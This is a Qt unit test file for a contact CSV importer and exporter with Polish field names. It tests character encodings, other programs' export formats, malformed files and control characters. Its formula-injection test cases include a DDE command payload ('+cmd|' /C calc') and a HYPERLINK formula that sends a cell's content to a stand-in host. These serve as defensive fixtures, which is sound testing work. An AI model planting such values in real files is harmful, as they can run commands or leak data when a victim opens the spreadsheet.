#include "support/ExchangeBytes.h"

#include "core/common/Cp1250.h"
#include "core/exchange/ContactCsv.h"

#include <QtTest>

using namespace Qt::StringLiterals;

namespace {

ExchangeSink collect(QList<ExchangeContact> *contacts)
{
    return [contacts](ExchangeContact &&item, QString *) {
        contacts->append(std::move(item));
        return true;
    };
}

} // namespace

class TestContactCsv : public QObject
{
    Q_OBJECT
private slots:
    void read_files_data();
    void read_files();
    void read_otherProgramsExports_data();
    void read_otherProgramsExports();
    void read_onlyNameUnderstood_data();
    void read_onlyNameUnderstood();
    void read_malformed_data();
    void read_malformed();
    void formulaCells_markedAndReadBack_data();
    void formulaCells_markedAndReadBack();
    void write_leavesOutControlCharacters();
};

void TestContactCsv::read_files_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("street");
    QTest::addColumn<QString>("notes");
    QTest::addColumn<int>("count");

    QTest::newRow("spreadsheet in code page 1250, semicolons")
        << Cp1250::encode(u"Nazwa;DomUlica;TelDom\r\nŚliwa Jerzy;\"ul. Ogrodowa 1; m. 2\";22 111\r\n"
                          "Żuk Ola;;\r\n"_s)
        << u"Śliwa Jerzy"_s << u"ul. Ogrodowa 1; m. 2"_s << QString() << 2;
    QTest::newRow("UTF-8 without BOM, LF, quoted line break")
        << u"nazwa,Notatki,Kolumna obca\n\"Łoś, Adam\",\"raz\ndwa\",x\n"_s.toUtf8() << u"Łoś, Adam"_s << QString()
        << u"raz\ndwa"_s << 1;
    QTest::newRow("UTF-8 with BOM, short rows, empty lines and cells")
        << QByteArray("\xEF\xBB\xBF"
                      "DomUlica,Nazwa,Email\r\n\r\nul. Krótka,Kęs Jan\r\n,,\r\n")
        << u"Kęs Jan"_s << u"ul. Krótka"_s << QString() << 1;
    QTest::newRow("mail program's columns, ISO date")
        << QByteArray("First Name,Middle Name,Last Name,Home Street,Birthday,Notes\r\nJan,Maria,Rokita,ul. Polna 2,"
                      "1980-03-08,\"a, b\"\r\n")
        << u"Rokita Jan Maria"_s << u"ul. Polna 2"_s << u"a, b"_s << 1;
    QTest::newRow("header only") << QByteArray("Nazwa,Email\r\n") << QString() << QString() << QString() << 0;
}

void TestContactCsv::read_files()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, name);
    QFETCH(QString, street);
    QFETCH(QString, notes);
    QFETCH(int, count);
    QList<ExchangeContact> contacts;
    ExchangeError error;
    QVERIFY2(ContactCsv::read(bytes, &contacts, &error), qPrintable(error.text()));
    QCOMPARE(contacts.size(), count);
    if (count > 0) {
        QCOMPARE(contacts[0].contact.Nazwa, name);
        QCOMPARE(contacts[0].contact.DomUlica, street);
        QCOMPARE(contacts[0].notes, notes);
    }
}

// Files written from the header lists those programs publish for their CSV exports; every one holds
// the same person. "Field=value|..." of the first contact; the columns told as left out.
void TestContactCsv::read_otherProgramsExports_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("fields");
    QTest::addColumn<QString>("skipped");
    const QString everywhere = u"Nazwa=Kowalski Jan|Email=jan@kowalski.example|TelKom=600 100 200|TelSlu=22 111 22 33|"
                               u"Faks=22 777 88 99|DomMiasto=Łódź|DomKod=90-001|Urodziny=08.03.1980|Firma=Przędzalnia|"
                               u"Dep=Zakupy|Tytul=Kierownik|Notatki=Zna się na rzeczy|"_s;
    const QString thunderbird = everywhere
                                + u"Pseudo=Janek|TelDom=22 444 55 66|DomUlica=ul. Długa 5, m. 12|"
                                  u"PracaUlica=ul. Prosta 2|PracaMiasto=Warszawa|PracaKod=00-950|"
                                  u"PracaURL=www.przedzalnia.example|DomURL=www.kowalski.example"_s;
    QTest::newRow("Thunderbird, English") << u"thunderbird-en.csv"_s << thunderbird << u"Home Country|Custom 1"_s;
    QTest::newRow("Thunderbird, Polish, code page 1250")
        << u"thunderbird-pl.csv"_s << thunderbird << u"Państwo (dom)|Informacja 1"_s;
    QTest::newRow("Google Contacts") << u"google.csv"_s
                                     << everywhere
                                            + u"Pseudo=Janek|DomUlica=ul. Długa 5|DomURL=www.kowalski.example|TelDom="_s
                                     << u"Labels|E-mail 2 - Value|Address 1 - Region|Address 1 - Country"_s;
    QTest::newRow("Outlook") << u"outlook.csv"_s
                             << everywhere
                                    + u"TelDom=22 444 55 66|DomUlica=ul. Długa 5, m. 12|PracaUlica=ul. Prosta 2|"
                                      u"PracaURL=www.przedzalnia.example|Slub="_s
                             << u"E-mail Type|E-mail Display Name|Gender|Priority|Private|Sensitivity|Spouse"_s;
}

void TestContactCsv::read_otherProgramsExports()
{
    QFETCH(QString, file);
    QFETCH(QString, fields);
    QFETCH(QString, skipped);
    QFile in(QStringLiteral(TEST_DATA_DIR "/exchange/") + file);
    QVERIFY(in.open(QIODevice::ReadOnly));
    QList<ExchangeContact> contacts;
    ExchangeError error;
    ContactCsv::ColumnReport columns;
    QVERIFY2(ContactCsv::read(in.readAll(), collect(&contacts), {}, &error, {}, &columns), qPrintable(error.text()));
    QVERIFY(!contacts.isEmpty());
    for (const QString &expected : fields.split(u'|')) {
        const QString name = expected.section(u'=', 0, 0);
        const QString actual =
            name == u"Notatki" ? contacts[0].notes : contacts[0].contact.*Contact::column(name)->field;
        QVERIFY2(actual == expected.section(u'=', 1), qPrintable(name + u": "_s + actual));
    }
    QCOMPARE(columns.skipped, skipped.split(u'|'));
    QVERIFY(!columns.onlyName);
    if (file.startsWith(u"thunderbird")) { // a list with only the name as shown and an address
        QCOMPARE(contacts.size(), 2);
        QCOMPARE(contacts[1].contact.Nazwa + u' ' + contacts[1].contact.Email, u"Biuro Rachunkowe biuro@example.net"_s);
    }
}

void TestContactCsv::read_onlyNameUnderstood_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<bool>("onlyName");
    QTest::newRow("name parts, the rest unknown")
        << QByteArray("First Name,Last Name,Telefon privat,Strasse\r\nJan,Rokita,221234567,Lange 1\r\n") << true;
    QTest::newRow("name alone") << QByteArray("Nazwa\r\nRokita Jan\r\n") << false;
    QTest::newRow("name and a phone") << QByteArray("Nazwa,TelDom,Kolor\r\nRokita Jan,22,\r\n") << false;
}

void TestContactCsv::read_onlyNameUnderstood()
{
    QFETCH(QByteArray, bytes);
    QList<ExchangeContact> contacts;
    ContactCsv::ColumnReport columns;
    QVERIFY(ContactCsv::read(bytes, collect(&contacts), {}, nullptr, {}, &columns));
    QTEST(columns.onlyName, "onlyName");
}

void TestContactCsv::read_malformed_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<int>("line");
    QTest::newRow("quote never closed") << QByteArray("Nazwa,Notatki\r\nA,ok\r\nB,\"raz\r\ndwa\r\n") << 3;
    QTest::newRow("text after a closing quote") << QByteArray("Nazwa,Notatki\nA,\"x\ny\"z,\n") << 3;
    QTest::newRow("more fields than the header") << QByteArray("Nazwa;Email\nA;a@b\nB;b@c;nadmiar\n") << 3;
    QTest::newRow("no field names") << QByteArray("Kolor,Rozmiar\nczerwony,L\n") << 1;
}

void TestContactCsv::read_malformed()
{
    QFETCH(QByteArray, bytes);
    QFETCH(int, line);
    QList<ExchangeContact> contacts;
    ExchangeError error;
    QVERIFY(!ContactCsv::read(bytes, &contacts, &error));
    QCOMPARE(error.line, line);
    QVERIFY(contacts.isEmpty());
}

void TestContactCsv::formulaCells_markedAndReadBack_data()
{
    QTest::addColumn<QString>("value"); // the e-mail field
    QTest::addColumn<QString>("cell");  // as the file carries it between its commas
    QTest::newRow("arithmetic") << u"=2*3"_s << u"'=2*3"_s;
    QTest::newRow("link built from other cells") << u"=HYPERLINK(\"http://x.invalid/\"&A1,\"klik\")"_s
                                                 << u"\"'=HYPERLINK(\"\"http://x.invalid/\"\"&A1,\"\"klik\"\")\""_s;
    QTest::newRow("at sign") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
    QTest::newRow("plus before a command") << u"+cmd|' /C calc'!A0"_s << u"'+cmd|' /C calc'!A0"_s;
    QTest::newRow("minus before a sum") << u"-1+1"_s << u"'-1+1"_s;
    QTest::newRow("tab first") << u"\t=1"_s << u"'\t=1"_s;
    QTest::newRow("CR first") << u"\r=1"_s << u"\"'\r=1\""_s;
    QTest::newRow("telephone number") << u"+48 (22) 555-12-34"_s << u"+48 (22) 555-12-34"_s;
    QTest::newRow("negative number") << u"-12.5"_s << u"-12.5"_s;
    QTest::newRow("hyphen alone") << u"-"_s << u"-"_s;
    QTest::newRow("plain address") << u"ala@example.pl"_s << u"ala@example.pl"_s;
    QTest::newRow("apostrophe of the user's own") << u"'cytat"_s << u"'cytat"_s;
    QTest::newRow("apostrophe before a formula") << u"'=1"_s << u"''=1"_s;
}

void TestContactCsv::formulaCells_markedAndReadBack()
{
    QFETCH(QString, value);
    QFETCH(QString, cell);
    ExchangeContact item;
    item.contact.Nazwa = u"Kowal Jan"_s;
    item.contact.Email = value;
    item.notes = value;
    QByteArray out;
    QVERIFY(ContactCsv::write({item}, &out));
    const QString text = QString::fromUtf8(out);
    QVERIFY2(text.contains(u',' + cell + u','), qPrintable(text));
    QVERIFY2(text.endsWith(u',' + cell + u"\r\n"_s), qPrintable(text)); // the notes, last
    QList<ExchangeContact> back;
    ExchangeError error;
    QVERIFY2(ContactCsv::read(out, &back, &error), qPrintable(error.text()));
    QCOMPARE(back.size(), 1);
    QCOMPARE(back[0].contact.Email, value);
    QCOMPARE(back[0].notes, value);
}

void TestContactCsv::write_leavesOutControlCharacters()
{
    ExchangeContact item;
    item.contact.Nazwa = u"Nowak\x01 Jan"_s;
    item.contact.Email = u"jan@example.pl\x7f"_s;
    item.contact.Firma = u"A\x1b, B"_s;
    item.notes = u"raz\x0b\tdwa\r\ntrzy\x1f"_s;
    QByteArray bytes;
    QVERIFY(ContactCsv::write({item}, &bytes));
    QCOMPARE(ExchangeBytes::strayControls(bytes, true), QByteArray());
    const QList<QByteArray> rows = bytes.split('\n');
    QVERIFY(rows.size() >= 2);
    QVERIFY2(rows[1].startsWith(",,,,,,jan@example.pl,"), rows[1].constData());
    QVERIFY2(bytes.contains(",Nowak Jan,"), bytes.constData());
    QVERIFY2(bytes.contains(",\"A, B\","), bytes.constData());
    QVERIFY2(bytes.endsWith(",\"raz\tdwa\r\ntrzy\"\r\n"), bytes.constData());
}

QTEST_GUILESS_MAIN(TestContactCsv)
#include "tst_contactcsv.moc"
